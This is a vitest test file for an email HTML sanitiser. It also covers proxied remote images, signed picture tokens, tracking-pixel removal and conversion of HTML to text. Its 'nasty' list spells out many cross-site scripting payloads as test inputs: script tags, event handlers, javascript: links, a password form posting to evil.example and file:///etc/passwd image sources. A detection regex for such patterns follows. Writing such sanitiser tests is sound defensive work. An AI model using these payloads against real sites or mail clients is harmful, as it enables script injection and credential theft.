import { describe, expect, it, test } from 'vitest';
import type { Config } from '../../platform/config.ts';
import { cleanHtml } from './clean-html.ts';
import { pictureUrl, readPictureToken } from './picture-token.ts';
import { showHtml } from './show-html.ts';
import { textOfHtml } from './text-of-html.ts';

const nasty = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="cid:a" onload="alert(1)">',
  '<img src="https://evil.example/a.png" srcset="javascript:alert(1) 1x">',
  '<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example" target="_self" rel="opener">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf"><applet code=x></applet>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">Go</button></form>',
  '<style>body{display:none}</style><link rel=stylesheet href=x><base href="https://evil.example"><meta http-equiv=refresh content="0;url=x">',
  '<div style="background:url(javascript:alert(1));position:fixed;top:0;width:expression(alert(1))">x</div>',
  '<div style="background-image:url(https://evil.example/p.gif);font-weight:bold">x</div>',
  '<table background="https://evil.example/p.gif"><tr><td background=x>x</td></tr></table>',
  '<body onload=alert(1)><p onclick="alert(1)" onmouseover=alert(1)>x',
  '<video><source onerror="alert(1)"></video><audio src=x autoplay></audio>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea><title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>',
  '<!--[if mso]><script>alert(1)</script><![endif]--><!-- --!><script>alert(1)</script> -->',
  '<p id="constructor" name="cookie" class="ant-modal" data-x=1>x</p>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4="><img src="file:///etc/passwd"><img src="/v1/staff">',
  '<img src="http://user:pass@evil.example/x.png"><img src="ftp://evil.example/x.png">',
  '<img data-remote="https://evil.example/x.png"><img src="cid:x\'&quot;><script>">',
  '<a href="https://x.example/&quot; onclick=&quot;alert(1)">x</a>',
  '<p title="data-remote=&quot;https://evil.example/&quot;">data-remote="https://evil.example/"</p>',
  '<<img src=x>>',
  '<',
  '>',
  '"',
  "'",
  '&',
  '&lt;script&gt;',
  '\u0000',
  '</div></div></p>',
  '<b><i><u>',
  '‮',
  '=',
];

/** Everything a cleaned mail may consist of, in its one spelling. */
const value = '"[^"<>]*"';
const grammar = new RegExp(
  [
    `</?(?:p|div|blockquote|pre|center|h[1-6]|span|b|strong|i|em|u|s|del|ins|sub|sup|small|code|ul|ol|li|dl|dt|dd|table|caption|thead|tbody|tfoot|tr|td|th)(?: (?:dir|data-fold|colspan|rowspan|align|valign|start)=${value}| style="(?:(?:text-align|font-weight|font-style|text-decoration):[a-z0-9-]+;?)*")*>`,
    '<(?:br|hr)(?: dir="[a-z]+")?(?: style="[^"<>(]*")? />',
    `<a(?: rel="noopener noreferrer nofollow"| target="_blank"| title=${value}| href="(?:https?://|mailto:|tel:)[^"<>]*")*>|</a>`,
    `<img(?: alt=${value}| width="\\d+"| height="\\d+"| src="cid:[^"<>\\s]+"| data-remote="https?://[^"<>\\s]+")* />`,
    '[^<>]+',
    '&lt;|&gt;',
  ].join('|'),
  'giu',
);

function isSafe(html: string): boolean {
  return html.replace(grammar, '') === '';
}

describe("a mail's HTML is safe to show", () => {
  test.each(nasty.map((html) => [html]))('%j', (html) => {
    const clean = cleanHtml(html);
    expect(clean).toSatisfy(isSafe);
    expect(clean).not.toMatch(/ onerror=|onload=(?!")|javascript:|<script|<svg|<iframe|<form|<style|url\(/i);
  });

  it('in whatever order and depth nasty pieces come', { timeout: 60_000 }, () => {
    let seed = 11;
    const random = (below: number) => {
      seed = (seed * 1103515245 + 12345) % 2147483648;
      return seed % below;
    };
    for (let n = 0; n < 3000; n += 1) {
      const whole = Array.from({ length: 1 + random(8) }, () => {
        const piece = nasty[random(nasty.length)]!;
        const cut = random(piece.length + 1);
        return random(3) === 0 ? piece.slice(0, cut) : random(3) === 0 ? piece.slice(cut) : piece;
      }).join(random(4) === 0 ? '"' : '');
      const clean = cleanHtml(whole);
      if (!isSafe(clean)) throw new Error(`${JSON.stringify(whole)} became ${JSON.stringify(clean)}`);
    }
  });

  it('stays quick and whole under a megabyte of open tags', { timeout: 60_000 }, () => {
    const began = performance.now();
    expect(cleanHtml('<div>'.repeat(100_000))).toSatisfy(isSafe);
    expect(cleanHtml(`<table><tr><td>${'<b '.repeat(200_000)}`)).toSatisfy(isSafe);
    expect(cleanHtml(`<p style="${'a:b;'.repeat(200_000)}">x</p>`)).toBe('<p>x</p>');
    expect(performance.now() - began).toBeLessThan(20_000);
  });

  it('keeps words, tables, lists and links as they were meant', () => {
    expect(
      cleanHtml('<p style="text-align:center;color:red"><b>Hi</b> <a href="https://x.example/?a=1&b=2">there</a></p>'),
    ).toBe(
      '<p style="text-align:center"><b>Hi</b> <a rel="noopener noreferrer nofollow" target="_blank" href="https://x.example/?a=1&amp;b=2">there</a></p>',
    );
    expect(cleanHtml('<table><tr><td colspan="2">1</td></tr></table>')).toBe(
      '<table><tr><td colspan="2">1</td></tr></table>',
    );
  });

  it('marks what is quoted, as Gmail, Apple, Yahoo and Outlook do', () => {
    expect(cleanHtml('<div>Yes</div><div class="gmail_quote gmail_quote_container">On…</div>')).toContain(
      '<div data-fold="quoted">On…',
    );
    expect(cleanHtml('<blockquote type="cite">On…</blockquote>')).toBe(
      '<blockquote data-fold="quoted">On…</blockquote>',
    );
    expect(cleanHtml('<div class="yahoo_quoted">On…</div>')).toContain('data-fold="quoted"');
    expect(cleanHtml('<div id="appendonsend"></div><hr><div id="divRplyFwdMsg">From:</div>')).toContain(
      'data-fold="rest"',
    );
  });
});

describe('pictures', () => {
  const ctx = {
    config: { secret: 'a secret of tests, which is long enough' } as Config,
    now: new Date('2026-05-12T10:00:00Z'),
    workspaceId: '01975a7e-0000-7000-8000-000000000001',
  };

  it('that lie elsewhere are asked for through us, and never from their sender', () => {
    const clean = cleanHtml('<img src="https://pics.example/lamp.png?a=1&amp;b=2" width="300" alt="Lamp">');
    expect(clean).toBe('<img alt="Lamp" width="300" data-remote="https://pics.example/lamp.png?a=1&amp;b=2" />');
    const shown = showHtml(ctx, clean, []);
    expect(shown).not.toContain('pics.example');
    const token = /src="\/v1\/inbox\/pictures\/([^"]+)"/.exec(shown)?.[1];
    expect(readPictureToken(ctx.config.secret, ctx.now, token!)).toEqual({
      workspaceId: ctx.workspaceId,
      url: 'https://pics.example/lamp.png?a=1&b=2',
    });
  });

  it('that the mail brings are shown from our files', () => {
    const clean = cleanHtml('<p>See <img src="cid:lamp@x"> and <img src="cid:gone@x"></p>');
    const shown = showHtml(ctx, clean, [{ content_id: 'lamp@x', url: '/v1/files/abc' }]);
    expect(shown).toContain('src="/v1/files/abc"');
    expect(shown).not.toContain('cid:');
  });

  test.each([
    '<img src="https://t.example/o.gif" width="1" height="1">',
    '<img src="https://t.example/o.gif" style="width:1px; height:1px">',
    '<img src="https://t.example/o.gif" style="display: none">',
    '<img src="https://t.example/o.gif" height=0>',
  ])('that only tell their sender of the reading are not there: %s', (html) => {
    expect(cleanHtml(html)).toBe('');
  });

  it('are named by tokens nobody else can make, and that end', () => {
    const url = pictureUrl(ctx.config.secret, ctx.now, { workspaceId: ctx.workspaceId, url: 'https://a.example/' });
    const token = url.slice(url.lastIndexOf('/') + 1);
    const changed = Buffer.from(token, 'base64url');
    changed[changed.length - 2]! ^= 1;
    const read =
      (given: string, now = ctx.now) =>
      () =>
        readPictureToken(ctx.config.secret, now, given);
    expect(read(changed.toString('base64url'))).toThrow('picture.not_found');
    expect(read('AAAA')).toThrow('picture.not_found');
    expect(read(token, new Date('2026-05-14T00:00:01Z'))).toThrow('link.expired');
    expect(read(token)).not.toThrow();
  });
});

describe('the words of HTML', () => {
  it('read as lines, with what is quoted marked', () => {
    expect(
      textOfHtml(
        '<html><head><title>no</title><style>p{}</style></head><body><div>Yes, please.</div><br><div class="gmail_quote"><div>On Tue, May 12, 2026 Lumora &lt;<a href="mailto:h@x">h@x.example</a>&gt; wrote:<br></div><blockquote><div>Refund?</div></blockquote></div></body></html>',
      ),
    ).toBe('Yes, please.\n\nOn Tue, May 12, 2026 Lumora <h@x.example> wrote:\n\n> Refund?');
  });
});
